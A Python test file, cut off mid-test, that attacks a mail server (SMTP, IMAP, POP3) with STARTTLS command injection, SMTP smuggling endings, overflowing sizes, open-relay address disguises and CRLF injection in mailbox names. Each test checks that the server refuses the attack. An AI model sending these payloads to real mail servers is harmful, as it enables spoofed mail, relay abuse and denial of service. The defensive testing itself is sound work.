"""Hostile clients against the real binary: STARTTLS command injection,
SMTP smuggling, size and count attacks, open relay in disguise, injection
through names and EHLO, equal failure replies and login throttling.

Every test asserts the server's real answer (docs/smtp.md, docs/pop3.md,
docs/imap.md, docs/auth.md) and that the process is still running
afterwards; size and count attacks also prove that a fresh connection
still logs in and works.
"""

import base64
import select
import shutil
import subprocess
import email.parser
import imaplib
import poplib
import smtplib
import socket
import ssl
import threading
import time
import unittest

from harness import LineClient, ServerTestCase, client_tls_context
from smtp_util import inbox_count, open_smtp

DOMAIN = "example.org"
ALICE = "alice@" + DOMAIN
ALICE_PW = "alice secret"
TIMEOUT = 30

# Throttling is tested by its own class; elsewhere the many deliberate
# failures must not slow the suite down or block 127.0.0.1.
NO_THROTTLE = ("[auth]\nthrottle_free_failures = 100000\n"
               "throttle_block_after = 0\n")


def b64(data):
    return base64.b64encode(data).decode()


def plain_response(user, password):
    return b64(b"\0" + user.encode() + b"\0" + password.encode())


# ---------------------------------------------------------------- clients

class ImapLine(LineClient):
    """Raw IMAP: reads every line up to the tagged completion."""

    def greeting(self):
        line = self.line()
        assert line.startswith("* OK"), line
        return line

    def tagged(self, tag):
        """Returns (untagged lines, tagged line)."""
        untagged = []
        while True:
            line = self.line()
            if line.startswith(tag + " "):
                return untagged, line
            untagged.append(line)

    def cmd(self, tag, text):
        self.send(tag + " " + text + "\r\n")
        return self.tagged(tag)


class Pop3Line(LineClient):
    def cmd(self, text):
        self.send(text + "\r\n")
        return self.line()

    def multiline(self):
        lines = []
        while True:
            line = self.line()
            if line == ".":
                return lines
            lines.append(line)


def open_imap(server, name="imaps"):
    c = ImapLine(server.connect(name, tls=(name == "imaps"), timeout=TIMEOUT))
    c.greeting()
    return c


def open_pop3(server, name="pop3s"):
    c = Pop3Line(server.connect(name, tls=(name == "pop3s"), timeout=TIMEOUT))
    greeting = c.line()
    assert greeting.startswith("+OK"), greeting
    return c


def imaps_login(server, user=ALICE, password=ALICE_PW):
    m = imaplib.IMAP4_SSL("127.0.0.1", server.port("imaps"),
                          ssl_context=client_tls_context(), timeout=TIMEOUT)
    m.login(user, password)
    return m


def fetch_all(server, user=ALICE, password=ALICE_PW):
    """Every INBOX message of `user`, raw, read over IMAPS."""
    m = imaps_login(server, user, password)
    try:
        typ, data = m.select("INBOX", readonly=True)
        assert typ == "OK", data
        typ, data = m.search(None, "ALL")
        assert typ == "OK", data
        out = []
        for num in data[0].split():
            typ, parts = m.fetch(num, "(BODY.PEEK[])")
            assert typ == "OK", parts
            out.append(parts[0][1])
        return out
    finally:
        m.logout()


def header_of(raw):
    return email.parser.BytesHeaderParser().parsebytes(raw)


def deliver(server, rcpt, subject, helo="client.example"):
    msg = ("From: s@remote.example\r\nTo: %s\r\nSubject: %s\r\n\r\nbody\r\n"
           % (rcpt, subject)).encode()
    with smtplib.SMTP("127.0.0.1", server.port("smtp"),
                      timeout=TIMEOUT) as s:
        s.ehlo(helo)
        s.sendmail("s@remote.example", [rcpt], msg)


class HostileCase(ServerTestCase):
    """Checks after every test that the server process is still running."""

    def tearDown(self):
        self.assertIsNone(self.server.proc.poll(),
                          "correio died:\n" + self.server.stderr())

    # Fresh connections that log in and work, after an attack.
    def assert_imap_works(self):
        m = imaps_login(self.server)
        try:
            self.assertEqual(m.select("INBOX")[0], "OK")
            self.assertEqual(m.noop()[0], "OK")
        finally:
            m.logout()

    def assert_pop3_works(self):
        for _ in range(200):
            p = poplib.POP3_SSL("127.0.0.1", self.server.port("pop3s"),
                                timeout=TIMEOUT,
                                context=client_tls_context())
            p.user(ALICE)
            try:
                p.pass_(ALICE_PW)
            except poplib.error_proto as e:
                # An attacking session just closed may still hold the
                # maildrop for a moment (noticed asynchronously).
                p.close()
                if b"[IN-USE]" not in e.args[0]:
                    raise
                time.sleep(0.05)
                continue
            self.assertTrue(p.stat()[0] >= 0)
            p.quit()
            return
        self.fail("maildrop stayed in use")

    def assert_smtp_works(self):
        before = inbox_count(self.server, ALICE)
        deliver(self.server, ALICE, "alive check")
        self.assertEqual(inbox_count(self.server, ALICE), before + 1)


# ------------------------------------------------- 1. STARTTLS injection

class StartTlsInjectionTest(HostileCase):
    server_args = {"extra_config": NO_THROTTLE}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)

    def test_smtp_mx_injection_discarded_and_session_reset(self):
        c = open_smtp(self.server, "smtp", ehlo=False)
        ehlo = c.cmd("EHLO client.example")
        self.assertTrue(ehlo.startswith("250"), ehlo)
        self.assertIn("STARTTLS", ehlo)
        self.assertNotIn("AUTH", ehlo)  # the MX never offers AUTH
        self.assertTrue(c.cmd("MAIL FROM:<early@remote.example>")
                        .startswith("250 2.1.0"))
        c.send(b"STARTTLS\r\nEHLO evil.example\r\n"
               b"MAIL FROM:<evil@example.net>\r\n")
        reply = c.reply()
        self.assertTrue(reply.startswith("220"), reply)
        self.assertEqual(c.buf, b"", "plaintext answer after STARTTLS")
        c.starttls()
        # First bytes inside TLS: the answer to OUR command. Neither the
        # injected EHLO ran (503: EHLO needed) nor did state survive.
        first = c.cmd("MAIL FROM:<s@remote.example>")
        self.assertTrue(first.startswith("503"), first)
        ehlo = c.cmd("EHLO client.example")
        self.assertTrue(ehlo.startswith("250"), ehlo)
        self.assertNotIn("STARTTLS", ehlo)
        self.assertNotIn("AUTH", ehlo)
        # The MAIL FROM given before STARTTLS is forgotten.
        rcpt = c.cmd("RCPT TO:<%s>" % ALICE)
        self.assertTrue(rcpt.startswith("503"), rcpt)
        self.assertTrue(c.cmd("MAIL FROM:<s@remote.example>")
                        .startswith("250"))
        self.assertTrue(c.cmd("RCPT TO:<%s>" % ALICE).startswith("250"))
        self.assertEqual(c.code("QUIT"), 221)
        c.close()

    def test_submission_injection_does_not_authenticate(self):
        c = open_smtp(self.server, "submission", ehlo=False)
        ehlo = c.cmd("EHLO client.example")
        self.assertIn("STARTTLS", ehlo)
        self.assertNotIn("AUTH", ehlo)  # AUTH only after TLS
        auth = c.cmd("AUTH PLAIN " + plain_response(ALICE, ALICE_PW))
        self.assertTrue(auth.startswith("530 5.7.0"), auth)
        c.send(b"STARTTLS\r\nEHLO evil.example\r\nAUTH PLAIN " +
               plain_response(ALICE, ALICE_PW).encode() + b"\r\n")
        reply = c.reply()
        self.assertTrue(reply.startswith("220"), reply)
        self.assertEqual(c.buf, b"", "plaintext answer after STARTTLS")
        c.starttls()
        first = c.cmd("MAIL FROM:<%s>" % ALICE)
        self.assertTrue(first.startswith("503"), first)
        ehlo = c.cmd("EHLO client.example")
        self.assertIn("AUTH", ehlo)
        self.assertIn("PLAIN", ehlo)
        # The injected AUTH did not log us in.
        mail = c.cmd("MAIL FROM:<%s>" % ALICE)
        self.assertTrue(mail.startswith("530 5.7.0"), mail)
        auth = c.cmd("AUTH PLAIN " + plain_response(ALICE, ALICE_PW))
        self.assertTrue(auth.startswith("235"), auth)
        self.assertTrue(c.cmd("MAIL FROM:<%s>" % ALICE).startswith("250"))
        c.close()

    def test_pop3_stls_injection_discarded(self):
        c = open_pop3(self.server, "pop3")
        c.send("CAPA\r\n")
        self.assertTrue(c.line().startswith("+OK"))
        caps = c.multiline()
        self.assertIn("STLS", caps)
        self.assertNotIn("USER", caps)
        sasl = [l for l in caps if l.startswith("SASL")]
        for line in sasl:
            self.assertNotIn("PLAIN", line.split())
            self.assertNotIn("LOGIN", line.split())
        # docs/pop3.md RFC 2595: plaintext logins refused before TLS.
        required = "-ERR [AUTH] TLS is required: use STLS first"
        self.assertEqual(c.cmd("USER " + ALICE), required)
        self.assertEqual(c.cmd("PASS " + ALICE_PW), required)
        self.assertEqual(c.cmd("AUTH PLAIN " +
                               plain_response(ALICE, ALICE_PW)), required)
        c.send("STLS\r\nUSER %s\r\nPASS %s\r\n" % (ALICE, ALICE_PW))
        reply = c.line()
        self.assertTrue(reply.startswith("+OK"), reply)
        self.assertEqual(c.buf, b"", "plaintext answer after STLS")
        c.starttls()
        first = c.cmd("STAT")
        self.assertTrue(first.startswith("-ERR"), first)
        c.send("CAPA\r\n")
        self.assertTrue(c.line().startswith("+OK"))
        caps = c.multiline()
        self.assertIn("USER", caps)
        self.assertNotIn("STLS", caps)
        self.assertTrue(c.cmd("USER " + ALICE).startswith("+OK"))
        self.assertTrue(c.cmd("PASS " + ALICE_PW).startswith("+OK"))
        self.assertTrue(c.cmd("STAT").startswith("+OK"))
        self.assertTrue(c.cmd("QUIT").startswith("+OK"))
        c.close()

    def test_imap_starttls_injection_discarded(self):
        c = ImapLine(self.server.connect("imap", timeout=TIMEOUT))
        greeting = c.greeting()
        self.assertIn("LOGINDISABLED", greeting)
        untagged, done = c.cmd("a0", "CAPABILITY")
        caps = " ".join(untagged).split()
        self.assertTrue(done.startswith("a0 OK"), done)
        self.assertIn("LOGINDISABLED", caps)
        self.assertIn("STARTTLS", caps)
        self.assertFalse([x for x in caps if x.startswith("AUTH=")], caps)
        _, done = c.cmd("a1", "LOGIN %s \"%s\"" % (ALICE, ALICE_PW))
        self.assertTrue(done.startswith("a1 NO"), done)
        _, done = c.cmd("a2", "AUTHENTICATE PLAIN " +
                        plain_response(ALICE, ALICE_PW))
        self.assertTrue(done.startswith(("a2 NO", "a2 BAD")), done)
        c.send("a STARTTLS\r\nb CAPABILITY\r\nb2 LOGIN %s \"%s\"\r\n"
               % (ALICE, ALICE_PW))
        _, done = c.tagged("a")
        self.assertTrue(done.startswith("a OK"), done)
        self.assertEqual(c.buf, b"", "plaintext answer after STARTTLS")
        c.starttls()
        c.send("c CAPABILITY\r\n")
        first = c.line()
        self.assertTrue(first.startswith("* CAPABILITY "), first)
        caps = first.split()
        self.assertNotIn("LOGINDISABLED", caps)
        self.assertNotIn("STARTTLS", caps)
        self.assertIn("AUTH=PLAIN", caps)
        _, done = c.tagged("c")
        self.assertTrue(done.startswith("c OK"), done)
        # The injected LOGIN did not run: still not authenticated.
        untagged, done = c.cmd("d", "SELECT INBOX")
        self.assertEqual(untagged, [])
        self.assertFalse(done.startswith("d OK"), done)
        _, done = c.cmd("e", "LOGIN %s \"%s\"" % (ALICE, ALICE_PW))
        self.assertTrue(done.startswith("e OK"), done)
        _, done = c.cmd("f", "SELECT INBOX")
        self.assertTrue(done.startswith("f OK"), done)
        c.close()


# ------------------------------------------------------ 2. SMTP smuggling

class TlsPolicyTest(HostileCase):
    """TLS 1.2 and 1.3 only, and ALPN as a guard against cross-protocol
    attacks (ALPACA: a browser's HTTPS request steered to a mail port).
    A client offering ALPN without the port's protocol id is refused at
    the handshake (src/net/tls.cc SelectAlpn)."""

    def handshake(self, name, alpn=None, tls_max=None):
        ctx = client_tls_context()
        if alpn is not None:
            ctx.set_alpn_protocols(alpn)
        if tls_max is not None:
            ctx.minimum_version = ssl.TLSVersion.MINIMUM_SUPPORTED
            ctx.maximum_version = tls_max
            ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
        raw = socket.create_connection(("127.0.0.1", self.server.port(name)),
                                       timeout=TIMEOUT)
        try:
            s = ctx.wrap_socket(raw)
        except (ssl.SSLError, OSError) as e:
            raw.close()
            return None, str(e)
        proto = s.selected_alpn_protocol()
        greeting = s.recv(200)
        s.close()
        return proto, greeting

    def test_alpn_of_another_protocol_is_refused(self):
        for name, own in (("imaps", "imap"), ("pop3s", "pop3"),
                          ("submissions", "smtp")):
            proto, err = self.handshake(name, ["http/1.1", "h2"])
            self.assertIsNone(proto, name)
            self.assertIn("NO APPLICATION PROTOCOL", err.upper(), name)
            # The port's own id is selected; no ALPN at all is served.
            proto, greeting = self.handshake(name, ["http/1.1", own])
            self.assertEqual(proto, own, name)
            self.assertTrue(greeting, name)
            proto, greeting = self.handshake(name)
            self.assertIsNone(proto, name)
            self.assertTrue(greeting, name)

    def test_renegotiation_refused(self):
        """TLS 1.2 renegotiation (a client-initiated one costs the server a
        handshake for free, CVE-2011-1473) is refused with OpenSSL's
        no_renegotiation, and the server goes on serving."""
        if shutil.which("openssl") is None:
            self.skipTest("no openssl command")
        p = subprocess.Popen(
            ["openssl", "s_client", "-connect",
             "127.0.0.1:%d" % self.server.port("imaps"), "-tls1_2"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT)
        try:
            out = b""
            # Wait for the greeting, then ask for a renegotiation ("R" on a
            # line of its own is s_client's command for it).
            deadline = time.monotonic() + TIMEOUT
            while b"* OK" not in out and time.monotonic() < deadline:
                ready, _, _ = select.select([p.stdout], [], [],
                                            max(0, deadline -
                                                time.monotonic()))
                if not ready:
                    break
                chunk = p.stdout.read1(4096)
                if not chunk:
                    break
                out += chunk
            self.assertIn(b"* OK", out)
            p.stdin.write(b"R\n")
            p.stdin.flush()
            rest, _ = p.communicate(timeout=TIMEOUT)
        finally:
            if p.poll() is None:
                p.kill()
                p.wait()
        out += rest
        self.assertIn(b"RENEGOTIATING", out)
        self.assertIn(b"no renegotiation", out)
        proto, greeting = self.handshake("imaps")
        self.assertTrue(greeting)

    def test_alpn_checked_after_starttls_too(self):
        c = ImapLine(self.server.connect("imap", timeout=TIMEOUT))
        c.greeting()
        _, done = c.cmd("s", "STARTTLS")
        self.assertTrue(done.startswith("s OK"), done)
        ctx = client_tls_context()
        ctx.set_alpn_protocols(["pop3"])
        with self.assertRaises(ssl.SSLError):
            ctx.wrap_socket(c.sock)
        c.sock.close()

    def test_old_tls_versions_are_refused(self):
        offered = 0
        for version in (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1):
            try:
                proto, err = self.handshake("imaps", tls_max=version)
            except ValueError:
                continue  # this client cannot even offer it
            offered += 1
            self.assertIsNone(proto)
            self.assertIsInstance(err, str, version)
            # The server's protocol_version alert, not the client giving up.
            self.assertIn("PROTOCOL_VERSION", err.upper(), version)
        if not offered:
            self.skipTest("this Python's OpenSSL offers neither TLS 1.0 "
                          "nor 1.1")
        proto, greeting = self.handshake("imaps",
                                         tls_max=ssl.TLSVersion.TLSv1_2)
        self.assertTrue(greeting.startswith(b"* OK"), greeting)


class SmugglingTest(HostileCase):
    server_args = {"extra_config": "[limits]\nmax_bad_commands = 1000\n" +
                   NO_THROTTLE}
    VICTIM = "victim@" + DOMAIN
    ENDINGS = [b"\n.\n", b"\n.\r\n", b"\r.\r", b"\r\n.\r", b"\r\n\x00.\r\n",
               b"\r\n.\n", b"\r.\r\n"]

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(cls.VICTIM, ALICE_PW)

    def test_bad_endings_never_end_a_message(self):
        # The counting works: a clean message adds exactly one.
        before = inbox_count(self.server, self.VICTIM)
        deliver(self.server, self.VICTIM, "baseline")
        self.assertEqual(inbox_count(self.server, self.VICTIM), before + 1)
        for i, ending in enumerate(self.ENDINGS):
            with self.subTest(ending=ending):
                before = inbox_count(self.server, self.VICTIM)
                c = open_smtp(self.server)
                self.assertTrue(c.cmd("MAIL FROM:<s@remote.example>")
                                .startswith("250"))
                self.assertTrue(c.cmd("RCPT TO:<%s>" % self.VICTIM)
                                .startswith("250"))
                self.assertEqual(c.code("DATA"), 354)
                c.send(b"Subject: legit-%d\r\n\r\nfirst" % i + ending +
                       b"MAIL FROM:<evil@example.net>\r\n"
                       b"RCPT TO:<" + self.VICTIM.encode() + b">\r\n"
                       b"DATA\r\n"
                       b"Subject: smuggled-%d\r\n\r\nsecond\r\n.\r\n" % i +
                       b"HELP\r\n")
                # Exactly one reply (for the one message) before HELP's.
                replies = []
                while True:
                    r = c.reply()
                    if r.startswith("214"):
                        break
                    replies.append(r)
                self.assertEqual(len(replies), 1, replies)
                self.assertTrue(replies[0][:1] in ("2", "5"), replies)
                self.assertEqual(c.code("NOOP"), 250)
                c.close()
                after = inbox_count(self.server, self.VICTIM)
                if replies[0].startswith("5"):
                    self.assertEqual(after, before, replies)
                else:
                    self.assertEqual(after, before + 1, replies)
        # No stored message is the smuggled one on its own.
        for raw in fetch_all(self.server, self.VICTIM, ALICE_PW):
            subject = header_of(raw)["Subject"] or ""
            self.assertFalse(subject.startswith("smuggled"), raw[:400])
            self.assertNotIn(b"Return-Path: <evil@example.net>", raw)


# ----------------------------------------------- 3. size and count attacks

class ImapLimitsTest(HostileCase):
    # A line limit above 200,000 so the nesting bound itself is reached.
    server_args = {"extra_config": "[limits]\nmax_bad_commands = 1000\n"
                   "max_line_length = \"256K\"\n" + NO_THROTTLE}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)
        m = imaps_login(cls.server)
        m.append("INBOX", None, None,
                 b"From: a@example.org\r\nSubject: one\r\n\r\nbody\r\n")
        m.logout()

    def login(self):
        c = open_imap(self.server)
        _, done = c.cmd("L", "LOGIN %s \"%s\"" % (ALICE, ALICE_PW))
        self.assertTrue(done.startswith("L OK"), done)
        return c

    def test_append_literal_sizes_overflow(self):
        c = self.login()
        for tag, size in (("a1", "4294967296"), ("a2", "18446744073709551616"),
                          ("a3", "18446744073709551617"),
                          ("a4", "99999999999999999999999999")):
            c.send("%s APPEND INBOX {%s}\r\n" % (tag, size))
            line = c.line()
            self.assertFalse(line.startswith("+"),
                             "continuation for {%s}: %s" % (size, line))
            self.assertTrue(line.startswith((tag + " NO", tag + " BAD")),
                            line)
            if size == "4294967296":
                self.assertTrue(line.startswith(tag + " NO [TOOBIG]"), line)
        # Non-synchronising literal whose size overflows: refused, and the
        # next command in the same packet is still understood.
        c.send("a5 APPEND INBOX {18446744073709551616+}\r\nn1 NOOP\r\n")
        _, done = c.tagged("a5")
        self.assertTrue(done.startswith("a5 BAD"), done)
        _, done = c.tagged("n1")
        self.assertTrue(done.startswith("n1 OK"), done)
        c.close()
        self.assert_imap_works()

    def test_literal_before_login_limited(self):
        c = open_imap(self.server)
        c.send("p1 LOGIN {100000}\r\n")
        line = c.line()
        self.assertFalse(line.startswith("+"), line)
        self.assertTrue(line.startswith(("p1 NO", "p1 BAD")), line)
        _, done = c.cmd("p2", "NOOP")
        self.assertTrue(done.startswith("p2 OK"), done)
        c.close()

    def test_sequence_set_overflow(self):
        c = self.login()
        _, done = c.cmd("s", "SELECT INBOX")
        self.assertTrue(done.startswith("s OK"), done)
        for tag, cmd in (("f1", "FETCH 1:4294967296 FLAGS"),
                         ("f2", "FETCH 4294967296 FLAGS"),
                         ("f3", "UID FETCH 1:4294967296 FLAGS"),
                         ("f4", "FETCH 1:18446744073709551617 FLAGS"),
                         ("f5", "STORE 1:4294967296 +FLAGS (\\Seen)"),
                         ("f6", "FETCH 0:1 FLAGS")):
            untagged, done = c.cmd(tag, cmd)
            self.assertTrue(done.startswith(tag + " BAD"), (cmd, done))
            self.assertEqual(untagged, [], cmd)
        untagged, done = c.cmd("f7", "FETCH 1 FLAGS")
        self.assertTrue(done.startswith("f7 OK"), done)
        self.assertTrue(any(u.startswith("* 1 FETCH") for u in untagged),
                        untagged)
        c.close()
        self.assert_imap_works()

    def test_search_nested_parentheses(self):
        c = self.login()
        _, done = c.cmd("s", "SELECT INBOX")
        self.assertTrue(done.startswith("s OK"), done)
        depth = 100000
        untagged, done = c.cmd("n", "SEARCH " + "(" * depth + "ALL" +
                               ")" * depth)
        self.assertEqual(done, "n BAD Search keys nested too deeply")
        _, done = c.cmd("o", "NOOP")
        self.assertTrue(done.startswith("o OK"), done)
        c.close()
        self.assert_imap_works()

    def test_megabyte_line(self):
        for logged_in in (False, True):
            with self.subTest(logged_in=logged_in):
                c = self.login() if logged_in else open_imap(self.server)
                c.send(b"j NOOP " + b"x" * (1 << 20) + b"\r\n")
                line = c.line()
                self.assertTrue(line.startswith(("j BAD", "* BAD")), line)
                _, done = c.cmd("k", "NOOP")
                self.assertTrue(done.startswith("k OK"), done)
                c.close()
        self.assert_imap_works()


class SmtpLimitsTest(HostileCase):
    server_args = {"extra_config": "[limits]\nmax_message_size = 100000\n"
                   "max_bad_commands = 1000\n" + NO_THROTTLE}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)

    def test_size_parameter_overflow(self):
        c = open_smtp(self.server)
        for size, codes in (("99999999999999999999", (501, 552)),
                            ("18446744073709551616", (501, 552)),
                            ("18446744073709551615", (552,)),
                            ("100001", (552,)),
                            ("-1", (501,))):
            reply = c.cmd("MAIL FROM:<s@remote.example> SIZE=" + size)
            self.assertIn(int(reply[:3]), codes, (size, reply))
        # No transaction was opened by any of them.
        self.assertTrue(c.cmd("RCPT TO:<%s>" % ALICE).startswith("503"))
        self.assertTrue(c.cmd("MAIL FROM:<s@remote.example> SIZE=1000")
                        .startswith("250"))
        self.assertEqual(c.code("NOOP"), 250)
        c.close()
        self.assert_smtp_works()

    def test_ten_thousand_recipients(self):
        before = inbox_count(self.server, ALICE)
        c = open_smtp(self.server)
        self.assertTrue(c.cmd("MAIL FROM:<s@remote.example>")
                        .startswith("250"))
        n = 10000
        payload = ("RCPT TO:<%s>\r\n" % ALICE).encode() * n
        # Sent from a thread: the server answers while we still send.
        sender = threading.Thread(target=c.sock.sendall, args=(payload,))
        sender.start()
        data = b""
        while data.count(b"\r\n") < n:
            chunk = c.sock.recv(1 << 20)
            self.assertTrue(chunk, "connection closed after %d replies" %
                            data.count(b"\r\n"))
            data += chunk
        sender.join()
        replies = data.split(b"\r\n")[:n]
        c.buf = b"\r\n".join(data.split(b"\r\n")[n:])
        accepted = [r for r in replies if r.startswith(b"250")]
        limited = [r for r in replies if r.startswith(b"452 4.5.3")]
        self.assertEqual(len(accepted), 1000)  # limits.max_recipients
        self.assertEqual(len(limited), n - 1000)
        self.assertTrue(all(r.startswith(b"250") for r in replies[:1000]))
        self.assertEqual(c.code("DATA"), 354)
        c.send(b"Subject: many\r\n\r\nbody\r\n.\r\n")
        self.assertTrue(c.reply().startswith("250"))
        c.close()
        # Each account once, however often it was named.
        self.assertEqual(inbox_count(self.server, ALICE), before + 1)
        self.assert_smtp_works()

    def test_bdat_unparsable_sizes_close_the_session(self):
        for size in ("99999999999999999999", "-1", "18446744073709551616",
                     "0x10", ""):
            with self.subTest(size=size):
                c = open_smtp(self.server)
                c.cmd("MAIL FROM:<s@remote.example>")
                c.cmd("RCPT TO:<%s>" % ALICE)
                c.send("BDAT %s LAST\r\nNOOP\r\n" % size)
                first = c.reply()
                self.assertTrue(first.startswith("501"), first)
                second = c.reply()
                self.assertTrue(second.startswith("421"), second)
                self.assertTrue(c.closed())
                c.close()
        self.assert_smtp_works()

    def test_bdat_huge_chunks(self):
        before = inbox_count(self.server, ALICE)
        # Over max_message_size: read whole, refused, session goes on.
        c = open_smtp(self.server)
        c.cmd("MAIL FROM:<s@remote.example>")
        self.assertTrue(c.cmd("RCPT TO:<%s>" % ALICE).startswith("250"))
        chunk = b"Subject: big\r\n\r\n" + b"y" * 3000000
        c.send(b"BDAT %d LAST\r\n" % len(chunk) + chunk)
        reply = c.reply()
        self.assertTrue(reply.startswith("552"), reply)
        self.assertEqual(c.code("NOOP"), 250)
        c.close()
        # 2^64-1 announced: the client gives up half way; nothing stored.
        c = open_smtp(self.server)
        c.cmd("MAIL FROM:<s@remote.example>")
        self.assertTrue(c.cmd("RCPT TO:<%s>" % ALICE).startswith("250"))
        c.send(b"BDAT 18446744073709551615 LAST\r\n" + b"z\r\n" * 100000)
        c.close()
        self.assertEqual(inbox_count(self.server, ALICE), before)
        self.assert_smtp_works()

    def test_megabyte_command_line(self):
        c = open_smtp(self.server)
        c.send(b"NOOP " + b"x" * (1 << 20) + b"\r\n")
        reply = c.reply()
        self.assertTrue(reply.startswith("500 5.5.2"), reply)
        self.assertEqual(c.code("NOOP"), 250)
        c.close()


class Pop3LimitsTest(HostileCase):
    server_args = {"extra_config": "[limits]\nmax_bad_commands = 1000\n" +
                   NO_THROTTLE}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)
        deliver(cls.server, ALICE, "pop3 one")

    def test_message_numbers_overflow(self):
        c = open_pop3(self.server)
        self.assertTrue(c.cmd("USER " + ALICE).startswith("+OK"))
        self.assertTrue(c.cmd("PASS " + ALICE_PW).startswith("+OK"))
        for cmd in ("RETR 4294967297", "RETR 4294967296",
                    "LIST 99999999999999999999",
                    "LIST 18446744073709551617", "UIDL 4294967297",
                    "TOP 4294967297 0", "TOP 1 -1",
                    "DELE 4294967297", "RETR 0", "RETR -1", "RETR 1x"):
            reply = c.cmd(cmd)
            self.assertTrue(reply.startswith("-ERR"), (cmd, reply))
        # A line count past any message: -ERR, or the whole message.
        reply = c.cmd("TOP 1 99999999999999999999")
        if reply.startswith("+OK"):
            self.assertIn("Subject: pop3 one", c.multiline())
        else:
            self.assertTrue(reply.startswith("-ERR"), reply)
        self.assertTrue(c.cmd("NOOP").startswith("+OK"))
        self.assertTrue(c.cmd("STAT").startswith("+OK 1 "))
        self.assertTrue(c.cmd("LIST 1").startswith("+OK 1 "))
        # The session goes on: a real RETR still works.
        self.assertTrue(c.cmd("RETR 1").startswith("+OK"))
        body = c.multiline()
        self.assertIn("Subject: pop3 one", body)
        self.assertTrue(c.cmd("QUIT").startswith("+OK"))
        c.close()
        self.assert_pop3_works()

    def test_megabyte_line(self):
        c = open_pop3(self.server)
        c.send(b"USER " + b"x" * (1 << 20) + b"\r\n")
        reply = c.line()
        self.assertTrue(reply.startswith("-ERR"), reply)
        self.assertTrue(c.cmd("USER " + ALICE).startswith("+OK"))
        self.assertTrue(c.cmd("PASS " + ALICE_PW).startswith("+OK"))
        self.assertTrue(c.cmd("QUIT").startswith("+OK"))
        c.close()
        self.assert_pop3_works()


# ------------------------------------------------------------ 4. open relay

class OpenRelayTest(HostileCase):
    server_args = {"extra_config": "[limits]\nmax_bad_commands = 1000\n" +
                   NO_THROTTLE}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)
        cls.server.add_user("bob@" + DOMAIN, ALICE_PW)

    DISGUISES = ["<bob@example.net>",
                 "<\"bob@example.net\">",
                 "<\"bob@example.net\"@example.org>",
                 "<@example.org:bob@example.net>",
                 "<@example.org,@example.net:bob@example.org>",
                 "<example.net!bob>",
                 "<example.net!bob@example.org>",
                 "<bob@example.net.>",
                 "<bob@example.org.>",
                 "<bob%example.net@example.org>",
                 "<bob%example.net>",
                 "<bob@[192.0.2.1]>",
                 "<bob@[127.0.0.1]>",
                 "<bob@example.net@example.org>",
                 "<BOB@EXAMPLE.NET>",
                 "<bob@example.org@example.net>"]

    def test_every_disguise_refused_nothing_queued(self):
        before = inbox_count(self.server, ALICE)
        c = open_smtp(self.server)
        self.assertTrue(c.cmd("MAIL FROM:<s@remote.example>")
                        .startswith("250"))
        for rcpt in self.DISGUISES:
            reply = c.cmd("RCPT TO:" + rcpt)
            self.assertTrue(reply.startswith("5"), (rcpt, reply))
            if rcpt == "<bob%example.net@example.org>":
                self.assertTrue(reply[:3] in ("550", "554"), (rcpt, reply))
        # A real local recipient in the same transaction: the message goes
        # to alice only.
        self.assertTrue(c.cmd("RCPT TO:<%s>" % ALICE).startswith("250"))
        self.assertEqual(c.code("DATA"), 354)
        c.send(b"Subject: relay try\r\n\r\nbody\r\n.\r\n")
        self.assertTrue(c.reply().startswith("250"))
        self.assertEqual(c.code("QUIT"), 221)
        c.close()
        self.assertEqual(inbox_count(self.server, ALICE), before + 1)
        out = self.server.admin("queue", "list").stdout
        self.assertEqual(out.strip(), "queue is empty", out)

    def test_disguises_alone_get_no_data(self):
        for rcpt in self.DISGUISES:
            with self.subTest(rcpt=rcpt):
                c = open_smtp(self.server)
                c.send("MAIL FROM:<s@remote.example>\r\nRCPT TO:%s\r\n"
                       "DATA\r\n" % rcpt)
                self.assertTrue(c.reply().startswith("250"))
                reply = c.reply()
                self.assertTrue(reply.startswith("5"), (rcpt, reply))
                reply = c.reply()
                self.assertTrue(reply.startswith("5"), (rcpt, reply))
                # Body lines the client pushes anyway are commands now.
                c.send(b"Subject: x\r\n\r\n.\r\nQUIT\r\n")
                replies = []
                while True:
                    r = c.reply()
                    replies.append(r)
                    if r.startswith("221"):
                        break
                self.assertFalse([r for r in replies if
                                  r.startswith("250 2.0.0 Ok: queued")],
                                 replies)
                c.close()
        out = self.server.admin("queue", "list").stdout
        self.assertEqual(out.strip(), "queue is empty", out)

    def test_unauthenticated_submission_cannot_send(self):
        c = open_smtp(self.server, "submission")
        reply = c.cmd("MAIL FROM:<%s>" % ALICE)
        self.assertTrue(reply.startswith("530"), reply)
        reply = c.cmd("RCPT TO:<bob@example.net>")
        self.assertTrue(reply.startswith("5"), reply)
        c.close()
        out = self.server.admin("queue", "list").stdout
        self.assertEqual(out.strip(), "queue is empty", out)


# -------------------------------------------------------------- 5. injection

class InjectionTest(HostileCase):
    server_args = {"extra_config": "[limits]\nmax_bad_commands = 1000\n" +
                   NO_THROTTLE}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)

    def login(self):
        c = open_imap(self.server)
        _, done = c.cmd("L", "LOGIN %s \"%s\"" % (ALICE, ALICE_PW))
        self.assertTrue(done.startswith("L OK"), done)
        return c

    def mailbox_names(self):
        m = imaps_login(self.server)
        try:
            typ, data = m.list()
            self.assertEqual(typ, "OK")
            return [d if isinstance(d, bytes) else b"".join(d) for d in data]
        finally:
            m.logout()

    def test_create_with_control_characters_refused(self):
        c = self.login()
        for i, name in enumerate((b"x\r\ny", b"x\ry", b"x\ny", b"x\x00y",
                                  b"x\x01y", b"INBOX/\r\n.")):
            tag = "c%d" % i
            c.send(b"%s CREATE {%d}\r\n" % (tag.encode(), len(name)))
            cont = c.line()
            if cont.startswith("+"):
                c.send(name + b"\r\n")
                _, done = c.tagged(tag)
            else:
                done = cont
            self.assertTrue(done.startswith((tag + " NO", tag + " BAD")),
